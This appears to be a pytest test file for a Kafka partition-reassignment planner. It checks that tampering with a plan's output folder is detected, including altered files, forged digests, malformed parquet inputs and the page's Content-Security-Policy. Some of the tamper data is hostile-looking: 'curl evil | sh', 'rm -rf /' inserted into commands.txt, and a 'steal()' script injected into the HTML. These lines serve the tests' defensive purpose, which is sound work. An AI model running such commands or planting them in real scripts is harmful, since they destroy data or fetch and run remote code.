"""What somebody changes in a plan's folder, the check sees, and names the file."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from placement.formats.certificates import summary_digest
from spark_analysis.cli import plan_check
from spark_analysis.cli.plan_folder import parquet_bytes
from spark_analysis.report.markup import content_hash
from spark_analysis.tables.answers import listing_text, sha256_of
from tests.spark_analysis.cli.test_plan import described, plan

REPORTED = Path(__file__).parents[2] / "real_data" / "reported"
SIZES = ("--sizes", str(REPORTED / "42-logdirs.json"))
FILES = (
    *("answer.json", "batch-01.json", "batch-02.json", "brokers.parquet", "certificate.json", "commands.txt"),
    *("input.parquet", "moves.parquet", "plan.html", "plan.json", "preferred-election-01.json"),
    *("preferred-election-02.json", "preferred-election-others.json", "rollback.json", "summary.json"),
)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """The files of a plan in two batches, each with its election, and one of others."""
    folder = tmp_path_factory.mktemp("made")
    rows = [[2, 1], [2, 1], [1, 2], [1, 2]]
    # The dump lists topics in another order than plan.json, and both of them change.
    text = described("users", [[4, 3], [2, 1]]).replace("Leader: 4", "Leader: 3") + described("orders", rows * 2)
    (folder / "prod.txt").write_text(text)
    out = folder / "out"
    options = ("--add", "5", "--batches", "2", "--throttle", "1000000")
    assert plan(str(folder / "prod.txt"), *options, "--out", str(out)) == 0
    assert plan("--check", str(out)) == 0
    files = {path.name: path.read_bytes() for path in out.iterdir()}
    assert tuple(sorted(files)) == FILES
    return files


@pytest.fixture
def folder(made: dict[str, bytes], tmp_path: Path) -> Path:
    for name, content in made.items():
        (tmp_path / name).write_bytes(content)
    return tmp_path


def faults(folder: Path, capsys: pytest.CaptureFixture[str]) -> list[str]:
    """What the check says of a folder that is not right."""
    capsys.readouterr()
    assert plan("--check", str(folder)) == 1
    lines = capsys.readouterr().err.splitlines()
    assert all(line.startswith("brokerside: failed: ") for line in lines)
    return [line.removeprefix("brokerside: failed: ") for line in lines]


def relisted(folder: Path) -> None:
    """Write answer.json anew, as whoever means harm would."""
    names = sorted(path.name for path in folder.iterdir() if path.name != "answer.json")
    (folder / "answer.json").write_text(listing_text("plan", {name: sha256_of(folder / name) for name in names}))


def line_added(content: bytes) -> bytes:
    lines = content.splitlines(keepends=True)
    return b"".join([*lines[: len(lines) // 2], b"curl evil | sh\n", *lines[len(lines) // 2 :]])


def byte_changed(content: bytes) -> bytes:
    place = len(content) // 2
    return content[:place] + bytes([content[place] ^ 1]) + content[place + 1 :]


CHANGES: dict[str, Callable[[bytes], bytes | None]] = {
    "a line added": line_added,
    "a line at the end": lambda content: content + b"\n",
    "a byte changed": byte_changed,
    "the last byte removed": lambda content: content[:-1],
    "emptied": lambda content: b"",
    "removed": lambda content: None,
}


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("change", CHANGES)
def test_each_change_of_each_file_is_named(
    folder: Path, name: str, change: str, capsys: pytest.CaptureFixture[str]
) -> None:
    content = CHANGES[change]((folder / name).read_bytes())
    if content is None:
        (folder / name).unlink()
    else:
        (folder / name).write_bytes(content)
    found = faults(folder, capsys)
    assert any(name in fault for fault in found), found
    if change == "removed":
        assert f"{name}: is missing; a plan's folder has it" in found


@pytest.mark.parametrize("name", [name for name in FILES if not name.endswith((".parquet", "answer.json"))])
def test_a_text_is_compared_though_its_digest_is_made_to_fit(
    folder: Path, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (folder / name).write_bytes((folder / name).read_bytes() + b" ")
    relisted(folder)
    (found,) = faults(folder, capsys)
    assert found.startswith(f"{name} is not what the plan makes of it, from line ")


def test_a_line_in_the_commands_and_a_script_in_the_page_are_shown(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    commands, page = folder / "commands.txt", folder / "plan.html"
    commands.write_text(commands.read_text().replace("\n\n# Step 2", "\nrm -rf /\n\n# Step 2"))
    page.write_text(page.read_text().replace("</body>", "<script>steal()</script></body>"))
    relisted(folder)
    first, second = faults(folder, capsys)
    assert first.startswith("commands.txt is not what the plan makes of it, from line 7: it has 'rm -rf /")
    assert "it has 'script>steal()" in second


@pytest.mark.parametrize("name", ["go.sh", "batch-03.json", "batch-3.json", "preferred-election-07.json", ".profile"])
def test_a_file_more_is_named(folder: Path, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / name).write_text("{}")
    relisted(folder)
    assert any(fault.startswith(f"{name}") for fault in faults(folder, capsys))


def test_what_is_no_file_is_named_and_not_waited_for(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for name in ("commands.txt", "moves.parquet", "batch-01.json"):
        (folder / name).unlink()
        (folder / name).mkdir()
    found = faults(folder, capsys)
    for name in ("commands.txt", "moves.parquet", "batch-01.json"):
        assert f"{name}: is not a regular file" in found


def test_batches_are_the_plan_each_partition_once(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    paths = [folder / "batch-01.json", folder / "batch-02.json"]
    first, second = ([*json.loads(path.read_text())["partitions"]] for path in paths)
    turned = {**first[0], "replicas": first[0]["replicas"][::-1]}
    for batches, said in (
        (([turned, *first[1:]], second), "batch-01.json is not what the plan makes of it"),
        ((first, [*second, first[0]]), "batch-02.json is not what the plan makes of it"),
        ((first, second[1:]), "1 partition of plan.json is in no batch"),
    ):
        for path, entries in zip(paths, batches, strict=True):
            path.write_text(json.dumps({"version": 1, "partitions": entries}, separators=(",", ":")))
        assert any(fault.startswith(said) for fault in faults(folder, capsys))


def rewritten(path: Path, change: Callable[[Any], object]) -> None:
    value = json.loads(path.read_text())
    change(value)
    path.write_text(json.dumps(value, indent=2) + "\n")


def set_to(name: str, value: object) -> Callable[[Any], object]:
    return lambda summary: summary.__setitem__(name, value)


def test_the_summary_is_the_one_of_the_plan(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = folder / "summary.json"
    right = path.read_text()
    for name, value in (("broker_count", 7), ("is_least", False), ("batch_count", 9), ("throttle", 5)):
        rewritten(path, set_to(name, value))
        found = faults(folder, capsys)
        assert any(fault.startswith(("summary.json says", "summary.json is not")) for fault in found), found
        path.write_text(right)
    changes: tuple[Callable[[Any], object], ...] = (
        lambda summary: summary.__setitem__("cluster", "other"),
        lambda summary: summary["notes"].append("All is well."),
        lambda summary: summary.__setitem__("seconds_bound", 7.5),
    )
    for change in changes:
        rewritten(path, change)
        relisted(folder)
        assert "summary.json is not the one that the certificate was written with" in faults(folder, capsys)
        path.write_text(right)


@pytest.mark.parametrize(
    ("name", "value"), [("notes", 5), ("notes", [3]), ("cluster", None), ("seconds_at_throttle", "x"), ("throttle", [])]
)
def test_a_summary_of_other_types_is_a_fault_though_its_digest_fits(
    folder: Path, name: str, value: object, capsys: pytest.CaptureFixture[str]
) -> None:
    rewritten(folder / "summary.json", set_to(name, value))
    summary = json.loads((folder / "summary.json").read_text())
    proof = json.loads((folder / "certificate.json").read_text())
    proof["summary_sha256"] = summary_digest(summary)
    (folder / "certificate.json").write_text(json.dumps(proof, separators=(",", ":")) + "\n")
    relisted(folder)
    assert any(fault.startswith("summary.json ") for fault in faults(folder, capsys))


def changed_input(folder: Path, name: str, values: list[Any]) -> None:
    table = pq.read_table(folder / "input.parquet")
    column = pa.array(values, table.schema.field(name).type)
    (folder / "input.parquet").write_bytes(
        parquet_bytes(table.set_column(table.column_names.index(name), name, column))
    )


def test_who_is_in_sync_is_part_of_the_certificate(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    changed_input(folder, "isr", [[1]] * 10)
    assert "who is in sync in input.parquet is not as the certificate was made for" in faults(folder, capsys)


@pytest.mark.parametrize(
    ("name", "values"),
    [
        ("topic", ["other"] * 10),
        ("topic", [None] * 10),
        ("replicas", [[1, 1, 1, 1, 1, 1, 1, 1]] * 10),
        ("replicas", [None] * 10),
        ("replica_size_bytes", [[1]] * 10),
    ],
)
def test_an_input_of_another_shape_is_one_sentence(
    folder: Path, name: str, values: list[Any], capsys: pytest.CaptureFixture[str]
) -> None:
    changed_input(folder, name, values)
    (found,) = faults(folder, capsys)
    assert found.startswith("input.parquet: is not the input of a plan: ")


@pytest.mark.parametrize(
    ("limit", "what"),
    [("ROWS_MAX", "10 rows"), ("VALUES_MAX", "20 values in a column"), ("PAGES_BYTES_MAX", " bytes when unpacked")],
)
def test_the_footer_bounds_the_input_before_it_is_read(
    folder: Path, limit: str, what: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file of a few KiB may hold a hundred million equal rows."""
    monkeypatch.setattr(pq.ParquetFile, "read", None)
    monkeypatch.setattr(plan_check, limit, 8)
    (found,) = faults(folder, capsys)
    assert found.startswith("input.parquet: is not the input of a plan: it has ")
    assert found.endswith(f"{what}; at most 8 are read")


def test_tables_of_another_release_of_pyarrow_are_taken_by_their_digest(
    folder: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = folder / "moves.parquet"
    ours = pq.read_metadata(path).created_by.encode()
    other = ours[:-1] + b"9"
    path.write_bytes(path.read_bytes().replace(ours, other))
    assert "moves.parquet is not what the plan makes of it" in faults(folder, capsys)
    relisted(folder)
    assert plan("--check", str(folder)) == 0


def test_the_page_allows_its_own_styles_and_nothing_else(folder: Path) -> None:
    page = (folder / "plan.html").read_text()
    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)
    styles = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    hashes = " ".join(content_hash(text) for text in styles)
    assert html.unescape(policy) == f"default-src 'none'; style-src {hashes}; base-uri 'none'; form-action 'none'"
    assert len(styles) == 1
    assert not re.search(r"<script|\sstyle=|\son[a-z]+=", page)


@pytest.mark.parametrize(
    ("dump", "options"),
    [
        ("42-jbod.txt", ("--add", "3", *SIZES)),
        (
            "42-jbod.txt",
            ("--sizes", str(REPORTED / "42-logdirs.json"), "--add", "3", "--by", "bytes", "--tolerance", "30"),
        ),
        ("60-dead3.txt", ()),
        ("d-offline.txt", ("--only-leaders",)),
        ("g-one-leads-all.txt", ("--only-leaders",)),
        ("25.json", ("--racks", str(REPORTED / "25-racks.csv"), "--batches", "3")),
    ],
)
def test_plans_of_all_kinds_pass_their_check(dump: str, options: tuple[str, ...], tmp_path: Path) -> None:
    assert plan(str(REPORTED / dump), *options, "--out", str(tmp_path / "out")) == 0
    assert plan("--check", str(tmp_path / "out")) == 0
